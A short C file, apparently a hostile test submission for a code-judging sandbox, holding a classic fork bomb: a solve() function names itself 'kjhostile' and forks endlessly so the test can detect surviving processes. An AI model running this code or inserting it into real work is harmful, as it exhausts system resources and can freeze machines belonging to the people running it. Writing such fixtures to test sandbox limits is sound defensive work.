/* The classic fork bomb; every copy is named kjhostile so the test can look for survivors. */
#include <sys/prctl.h>
#include <unistd.h>

int solve(void) {
  prctl(PR_SET_NAME, "kjhostile");
  for (;;) fork();
  return 42;
}
